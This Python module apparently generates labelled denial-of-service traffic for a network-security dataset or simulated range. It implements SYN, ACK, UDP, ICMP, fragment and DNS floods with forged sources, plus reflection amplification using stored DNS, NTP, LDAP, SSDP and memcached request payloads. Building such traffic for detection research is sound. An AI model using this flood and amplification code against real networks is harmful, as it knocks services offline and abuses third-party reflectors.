"""Floods below the application: TCP, UDP, ICMP, fragments, name queries, and answers that nobody asked for.

Owns: rates, shapes and forged sources, which are documentation addresses that no host has. Never sends more than its
budget of packets. In: a context and bounds. Out: packets; truth by source as it is seen on the wire.
"""

import ipaddress
import socket
import struct

from ..catalog import hostile
from ..draws import log_uniform
from ..plan import INTERNET4
from . import packets
from .crew import Bounds, victim, zone_of_targets

TCP_SERVICES = {
    "nginx": 80,
    "weakweb": 8080,
    "sshd": 22,
    "ftp": 21,
    "mail": 25,
    "smb": 445,
    "mysql": 3306,
    "postgres": 5432,
    "redis": 6379,
    "api": 8000,
    "mqtt": 1883,
    "modbus": 502,
}
SLOWEST = 8.0  # packets a second
REASSEMBLY_US = 32_000_000
SYN, RST, ACK, FIN, PSH, URG = 0x02, 0x04, 0x10, 0x01, 0x08, 0x20


class _Rate:
    """Packets a second over time: steady, in pulses, or rising."""

    def __init__(self, rng, per_s):
        self._per_s = per_s
        self._shape = rng.choice(("steady", "steady", "pulses", "rise"))
        self._period_s, self._share, self._rise_s = (
            log_uniform(rng, 1, 15),
            rng.uniform(0.2, 0.8),
            log_uniform(rng, 3, 30),
        )

    def at(self, second):
        """The rate at a second of the flood."""
        if self._shape == "pulses":
            return self._per_s / self._share if second % self._period_s < self._share * self._period_s else 0
        if self._shape == "rise":
            return self._per_s * min(1.0, 0.05 + second / self._rise_s)
        return self._per_s


async def _pour(ctx, count, seconds, per_s, send):
    """Calls `send()` at most `count` times at a rate."""
    rate, bounds = _Rate(ctx.rng, per_s), Bounds(ctx, count, seconds)
    began_us = before_us = ctx.now_us()
    owed = 1.0
    while bounds.flows > 0 and bounds.left_s > 0:
        now_us = ctx.now_us()
        owed = min(owed + rate.at((now_us - began_us) / 1e6) * (now_us - before_us) / 1e6, 200)
        before_us = now_us
        while owed >= 1 and bounds.take():
            owed -= 1
            send()
        await ctx.sleep(max(0.005, min(0.4, 1 / per_s)))


def _raw(ctx):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setblocking(False)
    raw.untold()  # forged sources: the flood writes its rows itself
    return raw


def _sender(raw, target):
    def send(packet):
        try:
            raw.sendto(packet, (target, 0))
        except OSError:
            pass  # a full queue loses packets, as on any wire

    return send


class _Sources:
    """Whom a flood seems to come from: us, one forged address, a forged network, or any forged address."""

    def __init__(self, ctx, spoof=None):
        self._rng, self._site = ctx.rng, ctx.site
        kind = spoof or (
            "own" if ctx.host.zone == "lan" else ctx.rng.choice(("own", "one", "network", "network", "any"))
        )
        self._pool = None
        if kind == "own":
            self._pool = list(ctx.host.addresses4)
            self.seen = self._pool
        elif kind == "one":
            self._pool = ctx.site.dark_internet4(ctx.rng, ctx.rng.randint(1, 5))
            self.seen = self._pool
        elif kind == "network":
            place = ipaddress.ip_address(ctx.site.dark_internet4(ctx.rng, 1)[0])
            network = ipaddress.ip_network(f"{place}/{ctx.rng.randint(24, 28)}", strict=False)
            self._pool = ctx.site.dark_internet4(ctx.rng, 200, str(network))
            self.seen = [str(network)]
        else:
            self.seen = list(INTERNET4)

    def draw(self):
        """A source."""
        return self._rng.choice(self._pool) if self._pool else self._site.dark_internet4(self._rng, 1)[0]


def _open_port(ctx, where=None):
    """An address and an open TCP port; now and then a closed one."""
    host = victim(ctx, *TCP_SERVICES, where=where)
    name = ctx.rng.choice([n for n in TCP_SERVICES if host.offers(n)])
    port = host.port(name, TCP_SERVICES[name]) if name != "mail" else 25
    return host.address, port if ctx.rng.random() < 0.8 else ctx.rng.randint(1024, 65000)


def _anyone(ctx, where=None):
    """An address to flood: mostly a server's."""
    zone = zone_of_targets(ctx, where)
    hosts = [h for h in ctx.site.hosts if h is not ctx.host and h.zone == zone and h.role != "attacker"]
    servers = [h for h in hosts if h.role == "server"]
    return ctx.rng.choice(servers if servers and ctx.rng.random() < 0.75 else hosts).address


def _rate_for(ctx, count, seconds, fastest=2000):
    """A rate at which the flood lasts between a second or two and all its time, but never a trickle."""
    shortest = min(1.5, seconds / 2)
    return max(SLOWEST, min(fastest, count / log_uniform(ctx.rng, shortest, max(seconds * 0.9, shortest * 1.01))))


# hping3.


async def _hping(ctx, target, count, per_s, options, *, spoof_share=0.4):
    rng, source = ctx.rng, ctx.host.address
    argv = ["hping3", "-q", "-n", "-I", "eth0", "-c", str(count), "-i", f"u{1e6 / per_s:.0f}", *options]
    if ctx.host.zone == "wan" and rng.random() < spoof_share:
        source = ctx.site.dark_internet4(rng, 1)[0]
        argv += ["-a", source]
    if rng.random() < 0.4:
        argv += ["-t", str(rng.choice((50, 64, 100, 128, 255)))]
    await ctx.run([*argv, target], to=[(target, "", "*")], timeout_s=count / per_s * 1.3 + 3, source=source)


@hostile("syn-flood-hping3", label="dos", tool="hping3", technique="T1498.001")
async def syn_hping(ctx, flows, seconds, *, where=None, per_s=None):
    """SYNs from one source port after another, forged or not, with or without data."""
    rng = ctx.rng
    address, port = _open_port(ctx, where)
    per_s = per_s or _rate_for(ctx, flows, seconds)
    options = [
        "-S",
        "-p",
        str(port),
        "-w",
        str(rng.choice((64, 512, 1024, 5840, 65535))),
        "-s",
        str(rng.randint(1024, 40000)),
    ]
    options += ["-d", str(round(log_uniform(rng, 4, 1200)))] if rng.random() < 0.3 else []
    await _hping(ctx, address, max(1, min(flows, int(per_s * seconds))), per_s, options)


@hostile("ack-flood-hping3", label="dos", tool="hping3", technique="T1498.001")
async def ack_hping(ctx, flows, seconds, *, where=None, per_s=None):
    """Segments of no connection: ACK, PSH-ACK, RST, FIN, SYN-ACK."""
    rng = ctx.rng
    address, port = _open_port(ctx, where)
    per_s = per_s or _rate_for(ctx, flows, seconds)
    options = [
        *rng.choice((["-A"], ["-A", "-P"], ["-R"], ["-F", "-A"], ["-S", "-A"], ["-U", "-P", "-F"])),
        "-p",
        str(port),
        "-s",
        str(rng.randint(1024, 40000)),
    ]
    options += ["-d", str(round(log_uniform(rng, 4, 1300)))] if rng.random() < 0.5 else []
    await _hping(ctx, address, max(1, min(flows, int(per_s * seconds))), per_s, options)


@hostile("udp-flood-hping3", label="dos", tool="hping3", technique="T1498.001")
async def udp_hping(ctx, flows, seconds, *, where=None, per_s=None):
    """Datagrams to one port or to port after port; with one source port it is a single flow of many packets."""
    rng = ctx.rng
    single = rng.random() < 0.4
    count = flows * 10 if single else flows
    per_s = per_s or _rate_for(ctx, count, seconds)
    port = rng.choice((53, 80, 123, 443, 5060, rng.randint(1, 65000)))
    options = ["-2", "-d", str(round(log_uniform(rng, 4, 1400))), "-s", str(rng.randint(1024, 40000))]
    options += ["-k", "-p", str(port)] if single else ["-p", rng.choice((str(port), f"++{port}"))]
    await _hping(ctx, _anyone(ctx, where), max(1, min(count, int(per_s * seconds))), per_s, options)


@hostile("icmp-flood-hping3", label="dos", tool="hping3", technique="T1498.001")
async def icmp_hping(ctx, flows, seconds, *, where=None, per_s=None):
    """Echo requests, or now and then timestamp requests, of any size: few flows of many packets."""
    rng = ctx.rng
    count = max(flows, min(flows * 20, 20_000))
    per_s = per_s or _rate_for(ctx, count, seconds)
    options = ["-1", *(["-C", "13"] if rng.random() < 0.2 else ["-d", str(round(log_uniform(rng, 4, 1400)))])]
    await _hping(ctx, _anyone(ctx, where), max(1, min(count, int(per_s * seconds))), per_s, options)


# Our own packets.


def _tcp_options(rng):
    return rng.choice(
        (
            b"",
            b"",
            b"\x02\x04\x05\xb4",
            b"\x02\x04\x05\xb4\x01\x03\x03" + bytes((rng.randint(0, 10),)),
            b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + rng.randbytes(4) + b"\0\0\0\0\x01\x03\x03\x07",
        )
    )


async def _forge(ctx, flows, seconds, per_s, target, sources, make):
    start_us = ctx.now_us()
    per_s = per_s or _rate_for(ctx, flows, seconds)
    try:
        with _raw(ctx) as raw:
            send = _sender(raw, target)
            await _pour(ctx, flows, seconds, per_s, lambda: send(make(sources.draw())))
    finally:
        for source in sources.seen:
            ctx.window([(target, "", "*")], start_us, source=source)


@hostile("syn-flood-raw", label="dos", tool="raw socket", technique="T1498.001")
async def syn_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
    """SYNs from forged networks: answered by the server, never completed."""
    rng = ctx.rng
    (address, port), sources = _open_port(ctx, where), _Sources(ctx, spoof)
    options, ttl, window = (
        _tcp_options(rng),
        rng.choice((64, 64, 128, 255)),
        rng.choice((512, 8192, 29200, 64240, 65535)),
    )
    fixed_port = rng.randint(1024, 65000) if rng.random() < 0.15 else None

    def make(source):
        return packets.ipv4(
            source,
            address,
            6,
            packets.tcp(
                source,
                fixed_port or rng.randint(1024, 65535),
                address,
                port,
                flags=SYN,
                seq=rng.getrandbits(32),
                window=window,
                options=options,
            ),
            ttl=ttl,
        )

    await _forge(ctx, flows, seconds, per_s, address, sources, make)


@hostile("tcp-flood-raw", label="dos", tool="raw socket", technique="T1498.001")
async def tcp_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
    """Segments with flags of one kind or of all, with or without data, answered by resets or not at all."""
    rng = ctx.rng
    (address, port), sources = _open_port(ctx, where), _Sources(ctx, spoof)
    sets = rng.choice(
        (
            (ACK,),
            (ACK | PSH,),
            (RST,),
            (SYN | ACK,),
            (FIN | ACK,),
            (0,),
            (FIN | PSH | URG,),
            (SYN, ACK, RST, FIN | ACK, PSH | ACK),
        )
    )
    size, ttl, any_port = (
        rng.choice((0, 0, round(log_uniform(rng, 4, 1300)))),
        rng.choice((64, 128, 255)),
        rng.random() < 0.3,
    )

    def make(source):
        return packets.ipv4(
            source,
            address,
            6,
            packets.tcp(
                source,
                rng.randint(1024, 65535),
                address,
                rng.randint(1, 65535) if any_port else port,
                flags=rng.choice(sets),
                seq=rng.getrandbits(32),
                ack=rng.getrandbits(32),
                window=rng.choice((512, 8192, 65535)),
                data=rng.randbytes(size),
            ),
            ttl=ttl,
        )

    await _forge(ctx, flows, seconds, per_s, address, sources, make)


@hostile("udp-flood-raw", label="dos", tool="raw socket", technique="T1498.001")
async def udp_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
    """Datagrams of forged sources to one port or any."""
    rng = ctx.rng
    address, sources = _anyone(ctx, where), _Sources(ctx, spoof)
    low = round(log_uniform(rng, 1, 900))
    high, ttl = rng.randint(low, 1400), rng.choice((64, 128, 255))
    port = None if rng.random() < 0.4 else rng.choice((53, 80, 123, 443, 5060, rng.randint(1, 65000)))

    def make(source):
        return packets.ipv4(
            source,
            address,
            17,
            packets.udp(
                source,
                rng.randint(1024, 65535),
                address,
                port or rng.randint(1, 65535),
                rng.randbytes(rng.randint(low, high)),
            ),
            ttl=ttl,
        )

    await _forge(ctx, flows, seconds, per_s, address, sources, make)


@hostile("fragment-flood", label="dos", tool="raw socket", technique="T1498.001")
async def fragment(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
    """UDP or ICMP in fragments, whole or with the last one missing."""
    rng = ctx.rng
    address, sources = _anyone(ctx, where), _Sources(ctx, spoof)
    size, pieces, whole = 8 * rng.randint(8, 180), rng.randint(2, 5), rng.random() < 0.5
    number, icmp = rng.getrandbits(16), rng.random() < 0.3
    waiting = []

    def make(source):
        nonlocal number
        if not waiting:
            number = (number + 1) & 0xFFFF
            data = rng.randbytes(size * pieces - 8)
            payload = (
                packets.icmp_echo(number, 1, data)
                if icmp
                else packets.udp(source, rng.randint(1024, 65535), address, rng.choice((53, 80, 443)), data)
            )
            made = packets.fragments(source, address, 1 if icmp else 17, payload, size=size, ident=number)
            waiting.extend(made if whole else made[:-1])
        return waiting.pop(0)

    start_us = ctx.now_us()
    try:
        await _forge(ctx, flows, seconds, per_s, address, sources, make)
    finally:
        # What could not be put together is given up, and reported, half a minute later.
        for source in sources.seen:
            ctx.truth.row(ctx.what, start_us, ctx.now_us() + REASSEMBLY_US, source, "", address, "", "icmp")


@hostile("udp-flood-python", label="dos", tool="asyncio", technique="T1498.001")
async def udp_python(ctx, flows, seconds, *, where=None, per_s=None):
    """Datagrams from sockets of our own, each used for one packet or for many."""
    rng = ctx.rng
    address, start_us = _anyone(ctx, where), ctx.now_us()
    each = round(log_uniform(rng, 1, 40))
    port = rng.choice((53, 80, 123, 443, 1194, 5060, 27015, rng.randint(1, 65000)))
    low = round(log_uniform(rng, 1, 900))
    high = rng.randint(low, 1400)
    ctx.pick_source()
    client, used = None, 0

    def send():
        nonlocal client, used
        if client is None or used == each:
            if client is not None:
                client.close()
            client, used = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0
            client.setblocking(False)
            client.connect((address, port))
        used += 1
        try:
            client.send(rng.randbytes(rng.randint(low, high)))
        except OSError:
            pass  # the port is closed, and said so

    count = flows * each
    try:
        await _pour(ctx, count, seconds, per_s or _rate_for(ctx, count, seconds), send)
    finally:
        if client is not None:
            client.close()
        ctx.window([(address, "", "icmp")], start_us, source=ctx.source4)


@hostile("dns-flood", label="dos", tool="asyncio", technique="T1498.001")
async def dns_flood(ctx, flows, seconds, *, where=None, per_s=None):
    """Queries for names that do not exist, or for one that does, from one socket or from a new one each time."""
    rng = ctx.rng
    server = victim(ctx, "resolver", "internet-dns", where=where)
    # The company's resolver answers for its own domain itself: what it forwarded would be neither ours nor benign.
    zone = ctx.site.domain if server.offers("resolver") else rng.choice(("cdn.example", "shop.example", server.domain))
    fixed = rng.random() < 0.2
    kind = rng.choice((1, 1, 28, 16, 255))
    each = rng.choice((1, 1, round(log_uniform(rng, 2, 60))))
    ctx.pick_source()
    client, used, start_us = None, 0, ctx.now_us()

    def query():
        first = "www" if fixed else "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=rng.randint(4, 24)))
        labels = b"".join(bytes((len(part),)) + part.encode() for part in f"{first}.{zone}".split("."))
        return (
            struct.pack(">HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
        )

    def send():
        nonlocal client, used
        if client is None or used == each:
            if client is not None:
                client.close()
            client, used = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0
            client.setblocking(False)
            client.connect((server.address, 53))
        used += 1
        try:
            client.send(query())
        except OSError:
            pass  # no answer wanted

    try:
        await _pour(ctx, flows * each, seconds, per_s or _rate_for(ctx, flows * each, seconds, fastest=500), send)
        await ctx.sleep(1)
    finally:
        if client is not None:
            client.close()
        # Late answers meet closed sockets.
        ctx.window([(server.address, "", "icmp")], start_us, source=ctx.source4)


# Answers that nobody asked for.

QUESTIONS = {
    19: b"\n",
    53: bytes.fromhex("1a2b01000001000000000001046973632e036f72670000ff00010000291000000000000000"),
    123: b"\x17\x00\x03\x2a" + bytes(4),
    389: bytes.fromhex("30250201016320040030030a01000a0100020100020100"),
    1900: b'M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nMAN:"ssdp:discover"\r\nMX:2\r\nST:ssdp:all\r\n\r\n',
    11211: b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n",
}


@hostile("udp-amplification", label="dos", tool="raw socket", technique="T1498.002")
async def amplification(ctx, flows, seconds, *, port=None, per_s=None):
    """Asks reflectors in the name of a host of the LAN, which then gets their answers. Only from outside."""
    rng = ctx.rng
    if ctx.host.zone != "wan":
        raise LookupError("only a host on the internet can ask reflectors in the victim's name")
    reflectors = ctx.site.servers("reflector", "wan")
    target, start_us = _anyone(ctx), ctx.now_us()
    if not reflectors:
        await _unasked(ctx, flows, seconds, per_s, target, port)
        return
    used = rng.sample(reflectors, rng.randint(1, len(reflectors)))
    port = port or rng.choice([p for p in used[0].offers("reflector").options.get("ports", tuple(QUESTIONS))])
    back_port = rng.choice((80, 443, 53, rng.randint(1024, 65000))) if rng.random() < 0.5 else None
    questions = min(flows * 10, 3000) if back_port else flows
    ttl = rng.choice((64, 128, 255))
    try:
        with _raw(ctx) as raw:
            senders = [(host.address, _sender(raw, host.address)) for host in used]

            def send():
                address, to = rng.choice(senders)
                to(
                    packets.ipv4(
                        target,
                        address,
                        17,
                        packets.udp(target, back_port or rng.randint(1024, 65000), address, port, QUESTIONS[port]),
                        ttl=ttl,
                    )
                )

            await _pour(ctx, questions, seconds, per_s or _rate_for(ctx, questions, seconds, fastest=150), send)
        await ctx.sleep(1.5)
    finally:
        for host in used:
            ctx.window([(target, "", "*")], start_us, source=host.address)


async def _unasked(ctx, flows, seconds, per_s, target, port):
    """Without reflectors: big datagrams from well-known ports of our own addresses."""
    rng, start_us = ctx.rng, ctx.now_us()
    port = port or rng.choice(tuple(QUESTIONS))
    size = {53: 1200, 123: 440, 1900: 320, 11211: 1400}.get(port, 900)
    sources = rng.sample(ctx.host.addresses4, rng.randint(1, len(ctx.host.addresses4)))
    back_port = rng.choice((80, 443, rng.randint(1024, 65000))) if rng.random() < 0.5 else None
    count = flows * 10 if back_port else flows
    try:
        with _raw(ctx) as raw:
            to = _sender(raw, target)

            def send():
                source = rng.choice(sources)
                to(
                    packets.ipv4(
                        source,
                        target,
                        17,
                        packets.udp(
                            source,
                            port,
                            target,
                            back_port or rng.randint(1024, 65000),
                            rng.randbytes(round(size * rng.uniform(0.8, 1))),
                        ),
                    )
                )

            await _pour(ctx, count, seconds, per_s or _rate_for(ctx, count, seconds, fastest=1000), send)
    finally:
        for source in sources:
            ctx.window([(target, "", "*")], start_us, source=source)
